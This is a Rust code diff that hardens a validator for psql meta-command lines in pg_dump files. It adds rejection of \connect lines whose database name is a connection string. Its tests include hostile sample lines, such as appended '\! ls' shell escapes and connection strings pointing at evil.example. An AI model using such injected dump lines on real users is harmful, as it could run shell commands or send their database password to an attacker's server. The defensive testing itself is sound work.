@@ -34,11 +34,16 @@ pub enum Meta<'a> {
     Restrict(&'a [u8]),
     /// `\unrestrict KEY`.
     Unrestrict(&'a [u8]),
-    /// `\connect` in one of the two forms pg_dump writes (`appendPsqlMetaConnect`): a plain
-    /// name of `[A-Za-z0-9_.]`, or `-reuse-previous=on "dbname=..."` with `""` doubling; or
-    /// `\encoding NAME`, which pg_dump writes before the second form. Both are harmless lines
-    /// that psql must run outside restricted mode.
+    /// `\connect` in one of the two forms pg_dump writes (`appendPsqlMetaConnect`): a name of
+    /// `[A-Za-z0-9_.]` as `fmtId` prints it (bare when lower-case, else double-quoted), or
+    /// `-reuse-previous=on "dbname='...'"` (the libpq value quoting inside identifier
+    /// quoting) for any other name; or `\encoding SQL_ASCII`, which pg_dump writes before the
+    /// second form. Both are harmless lines that psql must run outside restricted mode.
     Connect,
+    /// A `\connect` line pg_dump does not write: why it is refused. Above all a database name
+    /// that libpq would expand into a connection string (one holding `=` or starting with
+    /// `postgresql://`), which would point psql, with the user's password, at another server.
+    BadConnect(&'static str),
     /// Anything else: the command word (e.g. `\!`), to name it in the error.
     Other(String),
 }
@@ -67,50 +72,92 @@ pub fn classify<'a>(line: &'a [u8]) -> Meta<'a> {
     match word {
         b"\\restrict" => alnum_arg(rest).map_or_else(other, Meta::Restrict),
         b"\\unrestrict" => alnum_arg(rest).map_or_else(other, Meta::Unrestrict),
-        b"\\connect" | b"\\c" if connect_arg_ok(rest) => Meta::Connect,
-        b"\\encoding"
-            if rest.strip_prefix(b" ").is_some_and(|a| {
-                !a.is_empty()
-                    && a.iter()
-                        .all(|&b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
-            }) =>
-        {
-            Meta::Connect
-        }
+        b"\\connect" => match connect_arg(rest) {
+            Ok(()) => Meta::Connect,
+            Err(why) => Meta::BadConnect(why),
+        },
+        b"\\encoding" if rest == b" SQL_ASCII" => Meta::Connect,
         _ => other(),
     }
 }
 
-fn connect_arg_ok(rest: &[u8]) -> bool {
-    let Some(arg) = rest.strip_prefix(b" ") else {
-        return false;
-    };
-    if !arg.is_empty()
+/// Checks the argument of a `\connect` line (`rest` starts after the word) against the two
+/// forms of `appendPsqlMetaConnect`.
+fn connect_arg(rest: &[u8]) -> std::result::Result<(), &'static str> {
+    const NOT_PG_DUMP: &str = "this is not one of the two forms pg_dump writes (a database name, or -reuse-previous=on \"dbname='...'\")";
+    let plain = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'.';
+    let arg = rest.strip_prefix(b" ").ok_or(NOT_PG_DUMP)?;
+    // fmtId of a plain name: bare when it is a lower-case identifier, else double-quoted (a
+    // plain name holds no quote to double).
+    let bare = arg
+        .first()
+        .is_some_and(|&b| b.is_ascii_lowercase() || b == b'_')
         && arg
             .iter()
-            .all(|&b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.')
-    {
-        return true;
+            .all(|&b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_');
+    let quoted = arg.len() > 2
+        && arg.starts_with(b"\"")
+        && arg.ends_with(b"\"")
+        && arg[1..arg.len() - 1].iter().all(|&b| plain(b));
+    if bare || quoted {
+        return Ok(());
     }
-    // psql reads a double-quoted argument literally up to its closing quote ("" is a quote),
-    // so nothing inside can start another meta-command.
-    let Some(q) = arg.strip_prefix(b"-reuse-previous=on \"") else {
-        return false;
-    };
-    let Some(body) = q.strip_suffix(b"\"") else {
-        return false;
-    };
+    // The general form: fmtId("dbname=" + appendConnStrVal(name)). psql reads the
+    // double-quoted argument literally up to its closing quote ("" is a quote), so nothing
+    // inside can start another meta-command; what is inside must be exactly one dbname.
+    let q = arg
+        .strip_prefix(b"-reuse-previous=on \"")
+        .and_then(|q| q.strip_suffix(b"\""))
+        .ok_or(NOT_PG_DUMP)?;
+    let mut body = Vec::with_capacity(q.len());
     let mut i = 0;
-    while i < body.len() {
-        if body[i] == b'"' {
-            if body.get(i + 1) != Some(&b'"') {
-                return false;
+    while i < q.len() {
+        if q[i] == b'"' {
+            if q.get(i + 1) != Some(&b'"') {
+                return Err(NOT_PG_DUMP);
             }
             i += 1;
         }
+        body.push(q[i]);
         i += 1;
     }
-    true
+    let val = body
+        .strip_prefix(b"dbname='")
+        .and_then(|v| v.strip_suffix(b"'"))
+        .ok_or(NOT_PG_DUMP)?;
+    // appendConnStrVal's quoting: a backslash before every ' and \, and nothing else.
+    let mut name = Vec::with_capacity(val.len());
+    let mut i = 0;
+    while i < val.len() {
+        match val[i] {
+            b'\\' => match val.get(i + 1) {
+                Some(&c @ (b'\\' | b'\'')) => {
+                    name.push(c);
+                    i += 1;
+                }
+                _ => return Err(NOT_PG_DUMP),
+            },
+            b'\'' => return Err(NOT_PG_DUMP),
+            c => name.push(c),
+        }
+        i += 1;
+    }
+    // pg_dump takes this form only for a name that is not plain.
+    if name.is_empty() || name.iter().all(|&b| plain(b)) {
+        return Err(NOT_PG_DUMP);
+    }
+    // libpq expands a dbname holding '=' or starting with a URI prefix into a whole
+    // connection string (host, port, user...): psql would connect where the dump says.
+    let lower = name.to_ascii_lowercase();
+    if name.contains(&b'=')
+        || lower.starts_with(b"postgresql://")
+        || lower.starts_with(b"postgres://")
+    {
+        return Err(
+            "its database name is a connection string (it holds '=' or starts with postgresql://), which psql would connect to, sending your password to the server it names; pg_dump only writes a database name here",
+        );
+    }
+    Ok(())
 }
 
 /// Whether `s` can stand on a psql meta-command line: psql reads those lines up to the end of
@@ -139,8 +186,20 @@ mod tests {
             classify(b"\\unrestrict abc9\r\n"),
             Meta::Unrestrict(b"abc9")
         );
-        assert_eq!(classify(b"\\connect db_1.x\n"), Meta::Connect);
+        assert_eq!(classify(b"\\connect db_1\n"), Meta::Connect);
+        assert_eq!(classify(b"\\connect \"Db_1.x\"\n"), Meta::Connect);
+        // Not fmtId's output: pg_dump would quote these.
+        assert!(matches!(
+            classify(b"\\connect db_1.x\n"),
+            Meta::BadConnect(_)
+        ));
+        assert!(matches!(classify(b"\\connect Db\n"), Meta::BadConnect(_)));
+        assert!(matches!(classify(b"\\c db\n"), Meta::Other(_)));
         assert_eq!(classify(b"\\encoding SQL_ASCII\n"), Meta::Connect);
+        assert_eq!(
+            classify(b"\\encoding UTF8\n"),
+            Meta::Other("\\encoding".into())
+        );
         assert_eq!(
             classify(b"\\encoding UTF8 \\! ls\n"),
             Meta::Other("\\encoding".into())
@@ -155,14 +214,36 @@ mod tests {
             classify(b"\\restrict abc \\! ls"),
             Meta::Other("\\restrict".into())
         );
-        assert_eq!(
-            classify(b"\\connect db \\! ls\n"),
-            Meta::Other("\\connect".into())
-        );
-        assert_eq!(
-            classify(b"\\connect -reuse-previous=on \"a\" \\! ls\n"),
-            Meta::Other("\\connect".into())
-        );
+        for bad in [
+            &b"\\connect db \\! ls\n"[..],
+            b"\\connect -reuse-previous=on \"a\" \\! ls\n",
+            b"\\connect -reuse-previous=on \"dbname='a-b'\" \\! ls\n",
+            b"\\connect -reuse-previous=on \"dbname='a'\"\n",
+            b"\\connect -reuse-previous=on \"dbname='a-b' host=x\"\n",
+            b"\\connect -reuse-previous=on \"dbname='a-b'' host=x'\"\n",
+            b"\\connect -reuse-previous=on \"dbname=a-b\"\n",
+            b"\\connect \"\"\n",
+            b"\\connect\n",
+        ] {
+            assert!(
+                matches!(classify(bad), Meta::BadConnect(_)),
+                "{}",
+                String::from_utf8_lossy(bad)
+            );
+        }
+        // A database name libpq would expand into a connection string.
+        for bad in [
+            &b"\\connect -reuse-previous=on \"dbname='app host=evil.example port=5432'\"\n"[..],
+            b"\\connect -reuse-previous=on \"dbname='postgresql://evil.example/app'\"\n",
+            b"\\connect -reuse-previous=on \"dbname='POSTGRES://evil.example/app'\"\n",
+        ] {
+            assert_eq!(
+                classify(bad),
+                Meta::BadConnect(
+                    "its database name is a connection string (it holds '=' or starts with postgresql://), which psql would connect to, sending your password to the server it names; pg_dump only writes a database name here"
+                )
+            );
+        }
         assert_eq!(classify(b"\\"), Meta::Other("\\".into()));
     }
 }
